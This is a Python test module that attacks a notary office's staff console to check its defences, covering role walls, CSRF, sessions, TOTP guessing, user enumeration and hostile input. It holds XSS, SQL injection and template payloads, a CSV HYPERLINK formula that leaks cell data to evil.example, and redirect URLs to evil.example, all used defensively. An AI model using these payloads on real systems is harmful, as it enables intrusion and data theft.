"""The staff console attacked: every route walked by every wrong role and office, every form
posted without its CSRF token, every GET checked for writes, sessions planted, replayed,
outlived and piled up, TOTP codes guessed and malformed, user names enumerated, hostile
text in every field, absurd dates, ids, pages and sizes, the inspection draw repeated, and
the audit trail checked for what it should have recorded.

Each test passes when the console resists. Routes are enumerated from the application
itself (``app.routes``), so a page added later is attacked too: give its path parameters a
value in ``World.ids`` and its form a body in ``_forms``."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from dataclasses import dataclass, field
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlmodel import Session, select

from console import accounts, charts, staff_sessions, totp
from console.csv_export import statistics_csv
from console.statistics import MonthRow
from feed.models import FeedDelivery, FeedEvent
from feed.receivers import add_receiver
from issuer.auth import Role, create_token
from issuer.drafts import create_draft
from issuer.service import issue_certificate
from notary.app import create_app
from records.matters import EXAMPLES, MATTERS, staff_matters
from records.models import Owner
from tests.console_helpers import elevate, form_fields, PASSWORD, Person, csrf_of, make_person, sign_in
from verifier.apikeys import create_api_key

OTHER_OFFICE = "BJ-OTHER"
READS = {"certificate.read", "certificate.pdf", "certificate.print", "certificate.list", "draft.read", "draft.preview",
         "statistics.export"}
HOSTILE = [
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE certificate; --",
    "{{ 7*7 }}{% if 1 %}x{% endif %}",
    "上海\u202e市\u200b",
    "\x01\x1b[31m\x7f",
    "%_\\%",
    "长" * 10_000,
]


# ------------------------------------------------------------------------------ the world

def _client(app) -> TestClient:
    """A browser on HTTPS (the Secure cookies travel); a server error is an answer (500), not
    an exception, so a test sees what a browser would."""
    return TestClient(app, base_url="https://testserver", raise_server_exceptions=False)


def _signed_in(app, person: Person) -> TestClient:
    client = _client(app)
    answer = sign_in(client, person)
    assert answer.status_code == 303, answer.text
    return client


def _today() -> dt.date:
    return dt.datetime.now(dt.timezone.utc).date()


@dataclass
class World:
    """One office (SH-DONGFANG) with its administrator, two notaries and a certificate and
    draft of the first; a regulator; an administrator of another office; a token and an API
    key. Each person signed in once, in a browser of their own."""

    rt: Any
    app: Any
    people: dict[str, Person]
    clients: dict[str, TestClient]
    csrf: dict[str, str]
    cert: Any
    ids: dict[str, str] = field(default_factory=dict)

    def draw(self, size: int = 1) -> str:
        """A random inspection, committed and drawn (the development chain mines the seed block)."""
        reg = self.clients["regulator"]
        answer = reg.post("/console/regulator/inspections", data={
            "csrf": self.csrf["regulator"], "size": str(size), "from": (_today() - dt.timedelta(days=1)).isoformat(),
            "to": (_today() + dt.timedelta(days=1)).isoformat()}, follow_redirects=False)
        assert answer.status_code == 303, answer.text
        draw_id = answer.headers["location"].rsplit("/", 1)[1]
        self.ids["draw_id"] = draw_id
        return draw_id


def _world(rt) -> World:
    app = create_app(rt)
    people = {
        "admin": make_person(rt, "liming", Role.OFFICE_ADMIN, name="李明"),
        "notary": make_person(rt, "wangli", name="王丽"),
        "other_notary": make_person(rt, "zhangwei", name="张伟"),
        "regulator": make_person(rt, "zhaoqiang", Role.REGISTRY_ADMIN, name="赵强"),
        "outsider": make_person(rt, "outsider", Role.OFFICE_ADMIN, office=OTHER_OFFICE, name="外处"),
    }
    clients = {who: _signed_in(app, person) for who, person in people.items()}
    for who, client in clients.items():  # every powerful action allowed by a fresh code: the walls are what is tried
        elevate(client, people[who])
    csrf = {who: csrf_of(client.get("/console/account").text) for who, client in clients.items()}
    notary = accounts.find_user(rt.engine, "wangli")
    cert = issue_certificate(rt.issuer_context(), "birth", EXAMPLES["birth"], actor="notary:王丽",
                             issued_by=Owner("王丽", notary.holder_id))
    draft = create_draft(rt.engine, rt.office.code, "birth", dict(EXAMPLES["birth"]), "zh", "notary:王丽",
                         holder=notary.holder_id)
    token, _ = create_token(rt.engine, "出证系统", Role.NOTARY, rt.office.code)
    key, _ = create_api_key(rt.engine, "不动产登记中心")
    # A dead delivery of the office's feed: replaying it is the administrator's alone.
    receiver, _ = add_receiver(rt.engine, rt.feed_config.sealing_key, name="一网通办", url="http://127.0.0.1:9/hook",
                               actor="test", office_code=rt.office.code, allow_insecure=True)
    with Session(rt.engine) as s:
        event = s.exec(select(FeedEvent).where(FeedEvent.certificate_id == cert.id)).one()
        dead = FeedDelivery(event_seq=event.seq, receiver_id=receiver.id, stream=str(cert.id), state="dead",
                            attempts=9)
        s.add(dead)
        s.commit()
        s.refresh(dead)
    ids = {"draft_id": str(draft.id), "certificate_id": str(cert.id), "user_id": str(notary.id),
           "token_id": str(token.id), "key_id": str(key.id), "draw_id": str(uuid.uuid4()), "lang": "en",
           "delivery_id": str(dead.id)}
    return World(rt, app, people, clients, csrf, cert, ids)


@pytest.fixture
def world(sqlite_runtime) -> World:
    return _world(sqlite_runtime)


def _forms(w: World) -> dict[str, dict]:
    """A body for each POST route: what would do harm if the route let it through."""
    corrected = form_fields({**EXAMPLES["birth"], "birth_place": "上海市静安区"})
    return {
        "/console/office/drafts": {"matter": "birth", "language": "zh", **form_fields(EXAMPLES["birth"])},
        "/console/office/drafts/{draft_id}": {"language": "zh-en", **corrected},
        "/console/office/certificates/{certificate_id}/revoke": {"reason": "1", "confirmed": "yes"},
        "/console/office/certificates/{certificate_id}/correct": {**corrected, "confirmed": "yes"},
        "/console/office/admin/staff": {"username": "intruder", "name": "入侵者", "role": "office_admin"},
        "/console/office/admin/tokens": {"name": "intruder", "role": "office_admin", "days": "30"},
        "/console/office/admin/apikeys": {"name": "intruder", "days": "30"},
        "/console/office/admin/key/rotate": {"confirmed": "yes"},
        "/console/regulator/inspections": {"size": "1", "from": (_today() - dt.timedelta(days=1)).isoformat(),
                                           "to": (_today() + dt.timedelta(days=1)).isoformat()},
        "/console/regulator/inspections/{draw_id}/findings": {"certificate": w.cert.number, "outcome": "defective",
                                                               "note": "forged finding"},
        "/console/password": {"current": PASSWORD, "new": "Attacker-Chosen-77", "again": "Attacker-Chosen-77"},
    }


def _routes(app, method: str) -> list[Any]:
    """The console's routes of ``method`` (each with ``path`` and ``methods``), read from the
    FastAPI app inside the middleware."""
    while not isinstance(app, FastAPI):
        app = app.app

    def walk(routes):
        for route in routes:
            if hasattr(route, "effective_route_contexts"):  # an included router, kept whole by newer FastAPI
                yield from route.effective_route_contexts()
            else:
                yield route

    return [r for r in walk(app.routes) if str(getattr(r, "path", "")).startswith("/console")
            and method in (getattr(r, "methods", None) or ())]


def _url(w: World, route: Any) -> str:
    names = re.findall(r"{(\w+)}", route.path)
    missing = [n for n in names if n not in w.ids]
    assert not missing, f"{route.path}: give {missing} a value in World.ids"
    return route.path.format(**{n: w.ids[n] for n in names})


def _area(path: str) -> str:
    for prefix, area in (("/console/office/admin", "admin"), ("/console/office", "office"),
                         ("/console/regulator", "regulator")):
        if path == prefix or path.startswith(prefix + "/"):
            return area
    return "everyone"


# What the state of the service is, but for the audit log and the sessions' last activity.
_STATE = {
    "certificate": "id, status, superseded_by",
    "certificate_draft": "id, state, data_json, language",
    "staff_user": "id, username, role, office_code, password_hash, totp_sealed, disabled_at, must_change_password",
    "staff_session": "token_hash, user_id",
    "issuer_token": "id, revoked_at, expires_at",
    "verifier_api_key": "id, revoked_at, expires_at",
    "inspection_draw": "id, state, selected_json",
    "inspection_finding": "id, outcome, note",
    "certificate_counter": "*",
    "number_reservation": "*",
    "change_claim": "*",
    "anchor_outbox": "*",
    "anchor_leaf_action": "*",
    "feed_delivery": "id, state, attempts",
}


def _state(w: World) -> dict:
    with w.rt.engine.connect() as conn:
        rows = {table: [tuple(map(str, row)) for row in conn.execute(text(f"SELECT {cols} FROM {table} ORDER BY 1"))]
                for table, cols in _STATE.items()}
    rows["signing key"] = w.rt.signer.fingerprint.hex()
    return rows


def _audit_seq(w: World) -> int:
    with w.rt.engine.connect() as conn:
        return conn.execute(text("SELECT coalesce(max(seq), 0) FROM audit_event")).scalar_one()


def _audit_since(w: World, seq: int) -> list[tuple[str, str, str | None]]:
    with w.rt.engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(
            "SELECT action, actor, office_code FROM audit_event WHERE seq > :s ORDER BY seq"), {"s": seq})]


def _request(client: TestClient, method: str, url: str, data: dict | None = None):
    if method == "GET":
        return client.get(url, follow_redirects=False)
    return client.post(url, data=data or {}, follow_redirects=False)


# ------------------------------------------------------------------------------ walls: role, office, owner

def _refused(who: str, area: str, path: str) -> bool:
    """Whether ``who`` must be refused ``path``: the other notary is refused the first
    notary's drafts and certificates (every id in the office area is theirs)."""
    if area == "everyone":
        return False
    allowed = {"admin": {"office", "admin"}, "notary": {"office"}, "other_notary": {"office"},
               "regulator": {"regulator"}, "outsider": set()}[who]
    if who == "other_notary" and area == "office" and ("{draft_id}" in path or "{certificate_id}" in path):
        return True
    return area not in allowed


def test_every_route_refuses_the_wrong_role_office_and_owner(world):
    """The other notary on the first's draft and certificate (show, save, preview, issue,
    discard, pdf, print, revoke, correct), another office's administrator on this office's
    pages and accounts, the regulator on office pages, office staff on the regulator's:
    each is refused (403, or 404 as if missing), nothing changes and nothing is audited as
    done. Each carries a valid CSRF token of their own, so only the wall stops them."""
    w = world
    forms = _forms(w)
    before, seq = _state(w), _audit_seq(w)
    tried = 0
    for method in ("GET", "POST"):
        for route in _routes(w.app, method):
            area = _area(route.path)
            for who, client in w.clients.items():
                if not _refused(who, area, route.path):
                    continue
                answer = _request(client, method, _url(w, route), {"csrf": w.csrf[who], **forms.get(route.path, {})})
                assert answer.status_code in (403, 404), (who, method, route.path, answer.status_code)
                tried += 1
    assert tried > 80
    assert _state(w) == before
    # Nothing happened, and every refusal of a role or office (403) is on the record.
    assert {action for action, _, _ in _audit_since(w, seq)} <= {"console.refused"}
    assert any(action == "console.refused" for action, _, _ in _audit_since(w, seq))


def test_an_administrator_reaches_no_account_or_token_outside_their_office(world):
    w = world
    rt, admin, csrf = w.rt, w.clients["admin"], w.csrf["admin"]
    outsiders = [w.people["regulator"].user_id, w.people["outsider"].user_id]
    theirs, _ = create_token(rt.engine, "外处系统", Role.OFFICE_ADMIN, OTHER_OFFICE)
    before = _state(w)
    for user_id in outsiders:
        for action in ("reset", "disable"):
            answer = admin.post(f"/console/office/admin/staff/{user_id}/{action}", data={"csrf": csrf})
            assert answer.status_code == 404, (action, answer.status_code)
    assert admin.post(f"/console/office/admin/tokens/{theirs.id}/revoke", data={"csrf": csrf}).status_code == 404
    # No role above their own: neither an account nor a token of the regulator's role.
    assert admin.post("/console/office/admin/staff", data={"csrf": csrf, "username": "newreg", "name": "新监管",
                                                           "role": "registry_admin"}).status_code == 422
    assert admin.post("/console/office/admin/tokens", data={"csrf": csrf, "name": "监管令牌",
                                                            "role": "registry_admin"}).status_code == 422
    assert _state(w) == before
    for client in (w.clients["regulator"], w.clients["outsider"]):  # still signed in, untouched
        assert client.get("/console/account").status_code == 200


def test_a_disabled_account_with_an_open_browser_can_do_nothing(world):
    w = world
    notary = w.clients["notary"]
    answer = w.clients["admin"].post(f"/console/office/admin/staff/{w.people['notary'].user_id}/disable",
                                     data={"csrf": w.csrf["admin"]}, follow_redirects=False)
    assert answer.status_code == 303
    before = _state(w)
    # The page still open in the notary's browser carries a CSRF token that was valid.
    answer = notary.post("/console/office/drafts",
                         data={"csrf": w.csrf["notary"], **_forms(w)["/console/office/drafts"]})
    assert answer.status_code == 401 and 'data-code="SESSION_EXPIRED"' in answer.text
    answer = notary.post(f"/console/office/certificates/{w.cert.id}/revoke",
                         data={"csrf": w.csrf["notary"], "reason": "1", "confirmed": "yes"})
    assert answer.status_code == 401
    assert notary.get(f"/console/office/certificates/{w.cert.id}/pdf", follow_redirects=False).status_code == 303
    assert _state(w) == before


# ------------------------------------------------------------------------------ CSRF and safe GETs

def test_every_post_route_needs_this_sessions_csrf_token(world):
    """Enumerated from the app: no token, a forged one, another person's valid one, a huge
    one, one sent as a file or as JSON: 403 CSRF_REJECTED, nothing changed, nothing audited."""
    w = world
    forms = _forms(w)
    by_area = {"admin": "admin", "office": "admin", "regulator": "regulator", "everyone": "notary"}
    before, seq = _state(w), _audit_seq(w)
    routes = [r for r in _routes(w.app, "POST") if r.path != "/console/signin"]
    assert len(routes) >= 20
    for route in routes:
        who = by_area[_area(route.path)]
        client, url, body = w.clients[who], _url(w, route), forms.get(route.path, {})
        someone_else = w.csrf["outsider" if who != "outsider" else "admin"]
        for offered in ({}, {"csrf": ""}, {"csrf": "forged"}, {"csrf": someone_else}, {"csrf": "x" * 10_000},
                        {"csrf": w.csrf[who] + " "}):
            answer = client.post(url, data={**body, **offered}, follow_redirects=False)
            assert answer.status_code == 403 and 'data-code="CSRF_REJECTED"' in answer.text, (route.path, offered)
        as_file = client.post(url, data=body, files={"csrf": ("csrf", w.csrf[who].encode())}, follow_redirects=False)
        as_json = client.post(url, json={"csrf": w.csrf[who], **body}, follow_redirects=False)
        assert as_file.status_code == 403 and as_json.status_code == 403, route.path
    assert _state(w) == before
    assert _audit_since(w, seq) == []
    for client in w.clients.values():  # sign-out and sign-out-everywhere did not happen either
        assert client.get("/console/account").status_code == 200


def test_the_sign_in_form_needs_the_cookie_token_it_was_served_with(world):
    w = world
    person = make_person(w.rt, "logincsrf")
    victim = _client(w.app)
    attacker_page = _client(w.app).get("/console/signin")  # the attacker's own form and token
    for token in ("", "forged", csrf_of(attacker_page.text)):
        answer = victim.post("/console/signin", data={"username": person.username, "password": person.password,
                                                      "code": person.peek(), "csrf": token, "next": "/console/"},
                             follow_redirects=False)
        assert answer.status_code == (403 if token else 422) and "__Host-notary_staff" not in victim.cookies


def test_get_routes_change_nothing_but_the_audit_of_reads(world):
    """Every GET of the console (enumerated from the app), as someone allowed to open it:
    no state changes; the only audit events are reads."""
    w = world
    w.draw()
    as_who = {"admin": "admin", "office": "admin", "regulator": "regulator", "everyone": "notary"}
    before, seq = _state(w), _audit_seq(w)
    routes = _routes(w.app, "GET")
    assert len(routes) >= 20
    for route in routes:
        public = route.path in ("/console/signin", "/console/lang/{lang}")
        client = _client(w.app) if public else w.clients[as_who[_area(route.path)]]
        answer = client.get(_url(w, route), follow_redirects=False)
        assert answer.status_code < 400, (route.path, answer.status_code)
        # Never framed, no inline script, and (personal data, CSRF tokens) never cached.
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"], route.path
        assert "unsafe-inline" not in answer.headers["content-security-policy"], route.path
        if answer.headers.get("content-type", "").startswith("text/html"):
            assert answer.headers["cache-control"] == "no-store", route.path
    assert _state(w) == before
    assert {action for action, _, _ in _audit_since(w, seq)} <= READS


# ------------------------------------------------------------------------------ sessions

def test_a_planted_session_cookie_is_never_a_session(world):
    """Fixation: a cookie set before sign-in (a chosen value, or a valid token under the
    unprefixed name a sibling domain could set) is neither kept nor honoured; a token
    altered in any way is no session."""
    w = world
    person = make_person(w.rt, "fixated")
    stolen = w.clients["admin"].cookies.get("__Host-notary_staff")
    planted = _client(w.app)
    planted.cookies.set("__Host-notary_staff", "attacker-chosen-token", domain="testserver")
    unprefixed = _client(w.app)
    unprefixed.cookies.set("notary_staff", stolen, domain="testserver")  # as a sibling domain could set it
    assert unprefixed.get("/console/office", follow_redirects=False).status_code == 303
    assert planted.get("/console/office", follow_redirects=False).status_code == 303
    answer = sign_in(planted, person)
    assert answer.status_code == 303
    issued = re.search(r"__Host-notary_staff=([^;]+);", ";".join(answer.headers.get_list("set-cookie"))).group(1)
    assert issued not in ("attacker-chosen-token", stolen)
    limits = staff_sessions.Timeouts(idle=dt.timedelta(minutes=15), absolute=dt.timedelta(hours=8))
    assert staff_sessions.resume(w.rt.engine, "attacker-chosen-token", limits) is None
    assert staff_sessions.resume(w.rt.engine, issued, limits) is not None
    for value in (stolen.upper(), stolen + "x", stolen[:-1], "x" * 101, stolen * 3):
        forged = _client(w.app)
        forged.cookies.set("__Host-notary_staff", value, domain="testserver")
        assert forged.get("/console/office", follow_redirects=False).status_code == 303, value


def test_a_signed_out_token_is_dead_on_the_server(world):
    w = world
    client = w.clients["notary"]
    token = client.cookies.get("__Host-notary_staff")
    assert client.post("/console/signout", data={"csrf": w.csrf["notary"]}, follow_redirects=False).status_code == 303
    replay = _client(w.app)
    replay.cookies.set("__Host-notary_staff", token)  # a copy kept from before the sign-out
    assert replay.get("/console/office", follow_redirects=False).status_code == 303
    answer = replay.post("/console/office/drafts", data={"csrf": w.csrf["notary"], "matter": "birth"})
    assert answer.status_code == 401


def test_clearing_a_host_cookie_repeats_secure_or_browsers_keep_it(world):
    """A browser ignores a Set-Cookie for a ``__Host-`` name without ``Secure`` (RFC 6265bis
    cookie prefixes), deletions included: the sign-out's and the sign-in's clearing of the
    ``__Host-`` cookies must carry ``Secure`` (and Path=/) or the cookies stay."""
    w = world
    signout = w.clients["notary"].post("/console/signout", data={"csrf": w.csrf["notary"]}, follow_redirects=False)
    signin = sign_in(_client(w.app), make_person(w.rt, "cookieclear"))
    clearing = [c for c in signout.headers.get_list("set-cookie") + signin.headers.get_list("set-cookie")
                if c.startswith("__Host-") and "max-age=0" in c.lower()]
    assert len(clearing) == 2
    for cookie in clearing:
        attributes = {a.strip().split("=")[0].lower() for a in cookie.split(";")[1:]}
        assert "secure" in attributes and "path" in attributes, cookie


def test_a_password_change_ends_the_other_sessions_and_keeps_this_one(world):
    w = world
    desk = w.clients["other_notary"]
    phone = _signed_in(w.app, w.people["other_notary"])
    answer = desk.post("/console/password", data={"csrf": w.csrf["other_notary"], "current": PASSWORD,
                                                  "new": "Another-Long-Secret-8", "again": "Another-Long-Secret-8"},
                       follow_redirects=False)
    assert answer.status_code == 303
    assert desk.get("/console/office").status_code == 200
    assert phone.get("/console/office", follow_redirects=False).status_code == 303
    # A wrong current password changes nothing (and is not an oracle for a session thief).
    wrong = desk.post("/console/password", data={"csrf": w.csrf["other_notary"], "current": "Not-The-Password-1",
                                                 "new": "Attacker-Chosen-77", "again": "Attacker-Chosen-77"})
    assert wrong.status_code == 422


def test_an_administrators_reset_ends_every_session_of_the_account(world):
    w = world
    answer = w.clients["admin"].post(f"/console/office/admin/staff/{w.people['notary'].user_id}/reset",
                                     data={"csrf": w.csrf["admin"]})
    assert answer.status_code == 200 and 'id="made-password"' in answer.text
    assert w.clients["notary"].get("/console/office", follow_redirects=False).status_code == 303
    assert staff_sessions.active(w.rt.engine, w.people["notary"].user_id) == []


def test_at_most_ten_sessions_per_person_the_oldest_ending_first(world):
    w = world
    first = w.clients["notary"]
    user = accounts.find_user(w.rt.engine, "wangli")
    for _ in range(staff_sessions.MAX_SESSIONS_PER_USER):
        staff_sessions.start(w.rt.engine, user, client="203.0.113.9", user_agent="stolen password")
    assert len(staff_sessions.active(w.rt.engine, user.id)) == staff_sessions.MAX_SESSIONS_PER_USER
    assert first.get("/console/office", follow_redirects=False).status_code == 303


def test_idle_and_absolute_timeouts_at_their_edges(sqlite_runtime):
    engine = sqlite_runtime.engine
    made = accounts.create_user(engine, sqlite_runtime.totp_sealing_key, "edges", "边界", Role.NOTARY,
                                sqlite_runtime.office.code, actor="test", password=PASSWORD)
    limits = staff_sessions.Timeouts(idle=dt.timedelta(minutes=15), absolute=dt.timedelta(hours=8))
    second = dt.timedelta(seconds=1)

    token, row = staff_sessions.start(engine, made.user, client=None, user_agent=None)
    assert staff_sessions.resume(engine, token, limits, now=row.created_at + limits.idle + second) is None
    assert staff_sessions.resume(engine, token, limits, now=row.created_at) is None  # ended for good

    token, row = staff_sessions.start(engine, made.user, client=None, user_agent=None)
    now = row.created_at
    while now + limits.idle - second < row.created_at + limits.absolute:  # busy all day, a request each 15 min
        now += limits.idle - second
        assert staff_sessions.resume(engine, token, limits, now=now) is not None
    assert staff_sessions.resume(engine, token, limits, now=row.created_at + limits.absolute - second) is not None
    assert staff_sessions.resume(engine, token, limits, now=row.created_at + limits.absolute + second) is None


# ------------------------------------------------------------------------------ TOTP and guessing

def test_totp_codes_outside_one_step_replayed_or_malformed_are_refused():
    secret = totp.new_secret()
    now = 1_800_000_000 + 15.0  # the middle of a step: no edge effects
    step = int(now // totp.STEP_SECONDS)
    code = lambda s: totp.code_now(secret, s * totp.STEP_SECONDS)  # noqa: E731
    for drift in (-2, 2, -3, 3, 100):
        assert totp.accepted_step(secret, code(step + drift), 0, now) is None, drift
    for drift in (-1, 0, 1):
        assert totp.accepted_step(secret, code(step + drift), 0, now) == step + drift
    assert totp.accepted_step(secret, code(step), step, now) is None  # replay of the step taken
    assert totp.accepted_step(secret, code(step - 1), step, now) is None  # an older one after it
    right = code(step)
    for bad in ("", "12345", "1234567", right[:5] + "a", right + "0", "-" + right[1:], "１２３４５６a",
                "٠١٢٣٤٥", right[:3] + "\x00" + right[3:], "9" * 10_000, " " * 6):
        assert totp.accepted_step(secret, bad, 0, now) is None, repr(bad)


def test_guessing_the_code_with_the_right_password_is_bounded_by_the_lock_out(world):
    w = world
    person = make_person(w.rt, "guessed")
    client = _client(w.app)
    right = person.peek()
    wrong = [f"{(int(right) + i) % 1_000_000:06d}" for i in range(1, 6)]
    answers = [sign_in(client, person, code=c, password=person.password).status_code for c in wrong]
    assert answers[:4] == [401] * 4 and answers[4] in (401, 429)  # the fifth locks (however it answers)
    locked = sign_in(client, person)  # then the right code, in time: still locked
    assert locked.status_code in (401, 429) and "__Host-notary_staff" not in client.cookies
    for code in ("1" * 21, "x" * 10_000):  # a code field no form sends: refused before anything is checked
        page = client.get("/console/signin")
        answer = client.post("/console/signin", data={"username": person.username, "password": person.password,
                                                      "code": code, "csrf": csrf_of(page.text)})
        assert 400 <= answer.status_code < 500


def test_a_spoofed_forwarded_address_does_not_reset_the_address_limit(world):
    w = world
    client = _client(w.app)
    answers = []
    for i in range(21):
        page = client.get("/console/signin")
        answers.append(client.post("/console/signin", headers={"X-Forwarded-For": f"198.51.100.{i}"}, data={
            "username": f"guess{i}", "password": "Wrong-Password-123",
            "code": "000000", "csrf": csrf_of(page.text)}).status_code)
    assert answers[-1] == 429


def test_an_unknown_user_and_a_known_user_with_a_wrong_password_answer_alike(sqlite_runtime):
    """Enumeration: an attacker tries five wrong passwords on a name. The answers (status,
    error code, page) must not tell a real account from a made-up one. (Timing: both hash
    one argon2id password, ~120 ms either way on this machine.)"""
    app = create_app(sqlite_runtime)
    make_person(sqlite_runtime, "realclerk")

    def attempts(username: str) -> list[tuple[int, str]]:
        client = _client(app)
        out = []
        for _ in range(accounts.MAX_FAILURES + 1):
            page = client.get("/console/signin")
            answer = client.post("/console/signin", data={"username": username, "password": "Wrong-Password-123",
                                                          "code": "000000", "csrf": csrf_of(page.text)})
            body = re.sub(r'name="csrf" value="[^"]+"', "", answer.text).replace(username, "NAME")
            out.append((answer.status_code, body))
        return out

    assert attempts("realclerk") == attempts("madeupclerk")


# ------------------------------------------------------------------------------ hostile text

def _hostile_form(matter: str) -> dict:
    """Every field of the matter's form filled with hostile text (a select with a value that
    is not an option, a box ticked)."""
    from console.matter_forms import build_form

    out: dict = {"matter": matter, "language": "zh-en"}
    fields = []
    for item in build_form(matter, {}):
        if hasattr(item, "rows"):  # a list of people or positions: every row
            fields.extend(f for row in item.rows for f in row)
        else:
            fields.append(item)
    for i, f in enumerate(fields):
        out[f.name] = "on" if f.kind == "checkbox" else HOSTILE[i % len(HOSTILE)]
    return out


def test_hostile_text_in_every_field_of_every_matter_is_kept_escaped_and_never_a_500(world):
    w = world
    admin, csrf = w.clients["admin"], w.csrf["admin"]
    # A matter the service records itself (evidence preservation) has no form and no draft.
    for matter in set(MATTERS) - set(staff_matters()):
        refused = admin.post("/console/office/drafts", data={"csrf": csrf, "matter": matter, "language": "zh"},
                             follow_redirects=False)
        assert refused.status_code == 303 and refused.headers["location"] == "/console/office/drafts/new", matter
        assert admin.get(f"/console/office/drafts/new?matter={matter}").status_code == 200  # the list, not a form
        assert f'data-matter="{matter}"' not in admin.get("/console/office/drafts/new").text
    for matter in staff_matters():
        answer = admin.post("/console/office/drafts", data={"csrf": csrf, **_hostile_form(matter)},
                            follow_redirects=False)
        assert answer.status_code == 303, (matter, answer.status_code, answer.text[:300])
        url = answer.headers["location"]
        for path in (url, url + "/preview"):
            page = admin.get(path)
            assert page.status_code < 500, (matter, path, page.status_code)
            assert "<script>alert" not in page.text and "<img src=x" not in page.text, (matter, path)
        saved = admin.post(url, data={"csrf": csrf, **_hostile_form(matter)}, follow_redirects=False)
        assert saved.status_code == 303, matter
        # Hostile text is never issued: the draft's checks refuse it, so does issuing.
        assert admin.post(url + "/issue", data={"csrf": csrf}).status_code == 422, matter


def test_hostile_text_in_the_other_forms_is_refused_or_escaped(world):
    w = world
    admin, csrf = w.clients["admin"], w.csrf["admin"]
    for username, name in (("<script>", "x"), ("good.name", "王\u202e丽"), ("good.name", "王\x00丽"),
                           ("good.name", "王\u200b丽"), ("a" * 10_000, "x"), ("good.name", "长" * 10_000),
                           ("liming", "李明二")):  # a user name taken
        answer = admin.post("/console/office/admin/staff", data={"csrf": csrf, "username": username, "name": name,
                                                                 "role": "notary"})
        assert answer.status_code == 422 and "<script>" not in answer.text, (username[:20], name[:20])
    made = admin.post("/console/office/admin/staff", data={"csrf": csrf, "username": "angle", "role": "notary",
                                                           "name": "<b>x</b><script>"})
    assert made.status_code == 200 and "<script>" not in made.text and "&lt;b&gt;x&lt;/b&gt;&lt;script&gt;" in made.text
    for path in ("/console/office/admin/tokens", "/console/office/admin/apikeys"):
        answer = admin.post(path, data={"csrf": csrf, "name": '<img src=x onerror=alert(1)>', "role": "notary",
                                        "days": "30"})
        assert answer.status_code == 200 and "<img src=x" not in answer.text and "&lt;img src=x" in answer.text
        assert 'id="secret"' in answer.text and answer.headers["cache-control"] == "no-store"  # shown once
    step = admin.post(f"/console/office/certificates/{w.cert.id}/revoke",
                      data={"csrf": csrf, "reason": "1", "note": '"><script>alert(1)</script>'})
    assert step.status_code == 200 and "<script>alert" not in step.text
    for reason in ("0", "-1", "99", "1e3", "x" * 10_000):
        answer = admin.post(f"/console/office/certificates/{w.cert.id}/revoke",
                            data={"csrf": csrf, "reason": reason, "confirmed": "yes"})
        assert answer.status_code == 422, reason
    assert admin.get(f"/console/office/certificates/{w.cert.id}").text.count('data-status="issued"') == 1


def test_a_revocation_note_is_held_to_the_text_policy(world):
    """The note is shown on the public verification page next to the certificate: a
    direction override or a control character would show other words than those kept (the
    regulator's finding notes are refused for the same characters, console.inspection)."""
    w = world
    for note in ("出证\u202e误错", "错误\x00", "错误\u200b"):
        cert = issue_certificate(w.rt.issuer_context(), "birth", EXAMPLES["birth"])
        answer = w.clients["admin"].post(f"/console/office/certificates/{cert.id}/revoke", data={
            "csrf": w.csrf["admin"], "reason": "1", "note": note, "confirmed": "yes"}, follow_redirects=False)
        assert answer.status_code == 422, repr(note)


def test_search_wildcards_and_sql_match_only_themselves(world):
    w = world
    admin = w.clients["admin"]
    assert w.cert.number in admin.get("/console/office").text
    for params in ({"name": "%"}, {"name": "_"}, {"name": "\\"}, {"name": "' OR '1'='1"}, {"name": "%' --"},
                   {"number": "' OR 1=1 --"}, {"number": "%"}, {"id_number": "%"}, {"id_number": "31010119900307002_"},
                   {"id_number": "31010119900307002%"}, {"matter": "birth' --"}, {"date_from": "x' OR 1=1"}):
        page = admin.get("/console/office", params=params)
        assert page.status_code == 200, params
        if "matter" not in params and "date_from" not in params:
            assert w.cert.number not in page.text, params
    assert admin.get("/console/office", params={"status": "issued' --"}).status_code == 422
    reg = w.clients["regulator"]
    for office in ("' OR '1'='1", "%", "SH-%"):
        page = reg.get("/console/regulator", params={"office": office})
        assert page.status_code == 200 and re.search(r'id="total-issued">0<', page.text), office
        assert reg.get("/console/regulator/leads", params={"office": office}).status_code == 200
    for action in ("%", "_", "' OR 1=1 --", "staff%"):  # a family or an action, never a pattern
        page = reg.get("/console/regulator/audit", params={"action": action})
        assert page.status_code == 200 and 'class="event"' not in page.text, action
    notary = w.clients["other_notary"]  # no certificate of theirs: a wildcard finds none of the others'
    for params in ({"name": "%"}, {"name": "张"}, {"id_number": "310101199003070027"}, {}):
        assert w.cert.number not in notary.get("/console/office", params=params).text


def test_the_csv_export_never_carries_a_formula():
    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
    rows = [MonthRow(office_code=h, matter=h, month=h, issued=1) for h in hostile]
    cells = [c for row in csv.reader(io.StringIO(statistics_csv(rows).lstrip("\ufeff"))) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)


def test_the_csv_export_by_http_is_plain_and_audited(world):
    w = world
    seq = _audit_seq(w)
    answer = w.clients["regulator"].get("/console/regulator/statistics.csv", params={"office": "=1+1"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["cache-control"] == "no-store"
    assert re.fullmatch(r'attachment; filename="statistics-[0-9-]+-[0-9-]+\.csv"',
                        answer.headers["content-disposition"])
    assert [a for a, _, _ in _audit_since(w, seq)] == ["statistics.export"]


def test_chart_labels_and_titles_are_escaped():
    hostile = '</text></svg><script>alert(1)</script><svg onload="alert(2)">'
    svgs = [charts.bar_chart(hostile, [(hostile, 3), ("\x00\x1b", float("nan"))]),
            charts.stacked_bar_chart(hostile, [hostile, "2024-01"], {hostile: [1, 2], "b": [-1, float("inf")]})]
    for svg in svgs:
        assert "<script" not in svg and "onload=" not in svg.replace("onload=&quot;", "") and "\x00" not in svg
        assert svg.count("<svg") == 1 and svg.rstrip().endswith("</svg>")


def test_next_and_the_language_switch_never_leave_the_console(world):
    w = world
    evil = ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example", "/console/\\evil",
            " //evil.example", "\t//evil.example", "/console/\r\nLocation: https://evil.example", "javascript:alert(1)",
